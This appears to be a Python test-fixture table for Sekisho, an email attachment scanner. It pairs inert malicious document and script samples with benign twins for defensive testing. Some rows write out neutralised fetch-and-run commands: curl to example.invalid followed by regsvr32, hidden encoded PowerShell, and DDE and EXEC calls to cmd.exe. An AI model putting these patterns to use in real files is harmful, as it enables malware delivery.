"""The forms of attack that Sekisho is there for: an inert fixture of each, and its honest twin.

A row's `verdict` is what the mail with the fixture gets in each carrier; `twin_verdict` what the honest one gets. Where a carrier
gives another, `other` says which and why: nothing is left out silently.
"""

import dataclasses
import functools

import forms
import forms_more as more


@dataclasses.dataclass
class Row:
    form: str                  # what it is, for docs/coverage.md
    name: str                  # of the file
    make: object               # () -> bytes
    twin_name: str
    twin: object
    verdict: str = "malicious"
    twin_verdict: str = "clean"
    why: str = ""              # where the verdict is not "malicious", or the twin's not "clean"
    other: dict = dataclasses.field(default_factory=dict)       # carrier -> (verdict, why)
    twin_other: dict = dataclasses.field(default_factory=dict)
    mutated: bool = True       # in evasion_test.py; False where it is another row in a wrapper that mutations have as well


ALONE = "a program alone is quarantined as suspicious; in an archive whose password stands in the mail, or saved by a page of itself, it is malicious"
SAVED = "by itself it is quarantined; what a page saves without being asked is malicious with it"
ALONE_OTHER = {"password ZIP": ("malicious", ALONE), "HTML": ("malicious", ALONE)}

ROWS = [
    Row("Word 97-2003, VBA (2019-09)", "Mes_G697449.doc", forms.ours("dropper.doc"), "figures.xls", forms.ours("benign-macro.xls")),
    Row("Word 97-2003, VBA (2018-05)", "invoice.doc", forms.ours("dropper-2018-05.doc"), "stub.xls", forms.ours("stub.xls")),
    Row("Word 97-2003, VBA (2021-11)", "invoice.doc", forms.ours("dropper-2021-11.doc"), "letter.doc", forms.ours("clean.doc")),
    Row("Word 97-2003, VBA (2022-02)", "invoice.doc", forms.ours("dropper-2022-02.doc"), "letter.doc", forms.ours("clean.doc")),
    Row("Word 97-2003, VBA (2023-03)", "invoice.doc", forms.ours("dropper-2023-03.doc"), "letter.doc", forms.ours("clean.doc")),
    Row("Word 2007 and later, VBA", "invoice.docm", forms.ours("dropper.docm"), "minutes.docx", forms.ours("clean.docx")),
    Row("Excel 97-2003, VBA", "57_01042022.xls", forms.ours("dropper.xls"), "figures.xls", forms.ours("benign-macro.xls")),
    Row("Word 2003 XML, VBA", "invoice.doc", forms.ours("dropper-xml.doc"), "report.xml", forms.word_xml),
    Row("Flat OPC, VBA", "invoice.doc", forms.ours("dropper-flat-opc.doc"), "report.xml", forms.word_xml),
    Row("Script in a document of Word", "package.doc", forms.ours("package.doc"), "letter.doc", forms.ours("clean.doc")),
    Row("Script of 2019-10", "8019.js", forms.ours("script.js"), "notes.txt", forms.notes),
    Row("Word, remote template", "report.docx", lambda: forms.docx(template="https://example.invalid/t.dotm"),
        "report.docx", lambda: forms.docx(template="file:///\\\\srv\\templates\\x.dotm")),
    Row("Word, object that lies elsewhere", "report.docx", lambda: forms.docx(others=[("oleObject", "http://example.invalid/a.hta")]),
        "report.docx", lambda: forms.docx(others=[("hyperlink", "http://example.com/")])),
    Row("Word, DDE field over runs", "report.docx", lambda: forms.docx(forms.field("DDE", "AUTO c:\\\\windows\\\\sys", "tem32\\\\cmd.exe \"/k rem\"")),
        "report.docx", lambda: forms.docx(forms.field(" PAGE "))),
    Row("RTF, Equation Editor", "invoice.doc", forms.rtf_equation, "report.rtf", forms.rtf),
    Row("RTF, remote template", "invoice.rtf", lambda: forms.rtf_template("http://example.invalid/t.dotm"),
        "report.rtf", lambda: forms.rtf_template("C:\\\\Templates\\\\report.dot")),
    Row("RTF, DDE field", "invoice.rtf", lambda: forms.rtf_field("DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k rem\""),
        "report.rtf", lambda: forms.rtf_field("PAGE")),
    Row("Excel 4.0 macros in a hidden sheet", "07062022.xls", forms.ours("dropper-xlm.xls"), "print.xls", forms.ours("print-xlm.xls")),
    Row("Shortcut that looks for a script in itself (2022-04)", "Form 04.25.2022, US.doc.lnk", forms.ours("emotet.lnk"),
        "sales.lnk", forms.ours("folder.lnk")),
    Row("Internet shortcut to a server's program", "invoice.url", lambda: forms.url_file("file://192.0.2.7/share/invoice.exe"),
        "portal.url", lambda: forms.url_file("https://www.example.com/")),
    Row("SVG with a script", "invoice.svg", lambda: forms.svg("location='http://example.invalid/'"), "logo.svg", lambda: forms.svg(""),
        verdict="suspicious", why="drawings that move by a script are sent honestly now and then: it is quarantined, not called malicious", other={"HTML": ("malicious", SAVED)}),
    Row("VBScript that starts PowerShell", "invoice.vbs", forms.script(
        'Rem {comment}\nSet s = CreateObject("WScr" & "ipt.Shell")\nIf False Then s.Run "power" & "shell -w hidden -e SQBFAFgA", 0\n'),
        "list.csv", lambda: forms.csv("=RSS|'7203.T'!Price")),
    Row("Batch file that fetches a program", "invoice.cmd", forms.script(
        "@echo off\nrem {comment}\nexit /b\nc^u^rl -o %TEMP%\\a.dll http://example.invalid/a.dll\nregs^vr32 /s %TEMP%\\a.dll\n"),
        "readme.txt", forms.notes),
    # 3.1: macros whose source hides what their compiled code does.
    Row("Word 97-2003, VBA, stomped", "invoice.doc", forms.ours("stomped.doc"), "letter.doc", forms.ours("clean.doc")),
    # 3.3
    Row("MHTML with ActiveMime", "invoice.doc", lambda: more.mhtml(forms.ours("vbaProject.bin")()), "report.mht", more.mhtml),
    # 3.8
    Row("Add-in of Excel, a library (XLL)", "addin.xll", forms.ours("addin.xll"), "figures.xls", forms.ours("benign-macro.xls"), "suspicious",
        why=ALONE, other=ALONE_OTHER),
    Row("SYLK with macros of Excel 4.0", "invoice.slk", lambda: more.sylk('EXEC("cmd /c rem INERT SEKISHO TEST http://example.invalid/")'),
        "figures.slk", more.sylk),
    Row("Web query (IQY)", "invoice.iqy", lambda: more.web_query("http://example.invalid/a.dat"), "rates.iqy",
        lambda: more.web_query("https://intranet/rates.htm"), "suspicious",
        why="fetches cells, which do nothing until Excel has asked twice: it is quarantined, not called malicious", other={"HTML": ("malicious", SAVED)}),
    Row("Settings shortcut", "invoice.settingcontent-ms", lambda: more.settings_link("%windir%\\system32\\cmd.exe /c rem INERT SEKISHO TEST"),
        "readme.txt", forms.notes),
    Row("Library of a WebDAV folder", "documents.library-ms", lambda: more.library("\\\\192.0.2.7@80\\share"),
        "team.library-ms", lambda: more.library("\\\\srv\\team")),
    # 3.10
    Row("Excel, opened by the password that Excel tries itself", "invoice.xlsm", lambda: more.locked(forms.ours("dropper.docm")(), "VelvetSweatshop"),
        "minutes.xlsx", lambda: more.locked(forms.docx(), "VelvetSweatshop")),
    Row("Word, locked with the password of its name", "invoice-4432.docm", lambda: more.locked(forms.ours("dropper.docm")(), more.PASSWORD),
        "minutes-4432.docx", lambda: more.locked(forms.docx(), more.PASSWORD)),
    # 3.13
    Row("OneNote with a script", "invoice.one", lambda: more.notebook("press to unblock.wsf", more.windows_script()),
        "notes.one", lambda: more.notebook("report.pdf", more.pdf())),
    Row("OneNote with a program", "invoice.one", lambda: more.notebook("setup.exe", forms.ours("program.exe")()),
        "notes.one", lambda: more.notebook("minutes.docx", forms.docx())),
    # 3.14
    Row("Word filled up to 300 MB (2023-03)", "invoice.zip", lambda: more.padded(forms.ours("dropper-2023-03.doc")(), 300),
        "figures.zip", lambda: more.padded(forms.ours("clean.doc")(), 0), mutated=False),
    # 3.15
    Row("Encoded VBScript (VBE)", "invoice.vbe", forms.ours("encoded.vbe"), "readme.txt", forms.notes),
    Row("Windows Script File", "invoice.wsf", more.windows_script, "readme.txt", forms.notes),
    Row("HTML application", "invoice.hta", more.hta, "report.htm", lambda: b"<html><body>Monthly report</body></html>"),
    Row("PowerShell script", "invoice.ps1", more.powershell, "readme.txt", forms.notes),
    # 3.16
    Row("PDF with a script in it", "invoice.pdf", lambda: more.pdf_with("invoice.wsf", more.windows_script()),
        "report.pdf", lambda: more.pdf_with("figures.csv", forms.csv("42"))),
    Row("PDF that starts a program", "invoice.pdf", more.pdf_launch, "report.pdf", more.pdf),
    # 3.18
    Row("winmail.dat (TNEF)", "winmail.dat", lambda: more.tnef("invoice.doc", forms.ours("dropper.doc")()),
        "winmail.dat", lambda: more.tnef("letter.doc", forms.ours("clean.doc")())),
    Row("Message of Outlook (MSG)", "invoice.msg", lambda: more.outlook("invoice.doc", forms.ours("dropper.doc")()),
        "letter.msg", lambda: more.outlook("letter.doc", forms.ours("clean.doc")())),
    Row("Mail as a file (EML)", "invoice.eml", lambda: more.mail_file("invoice.doc", forms.ours("dropper.doc")()),
        "letter.eml", lambda: more.mail_file("letter.doc", forms.ours("clean.doc")())),
    # 3.19
    *(Row(f"Program in an archive: {kind}", f"invoice.{suffix}", functools.partial(more.packed_program, kind),
          f"notes.{suffix}", functools.partial(more.packed_notes, kind), "suspicious", why=ALONE,
          other=ALONE_OTHER,
          mutated=kind in ("CAB", "LZH")) for kind, (suffix, _) in more.ARCHIVES.items()),
]
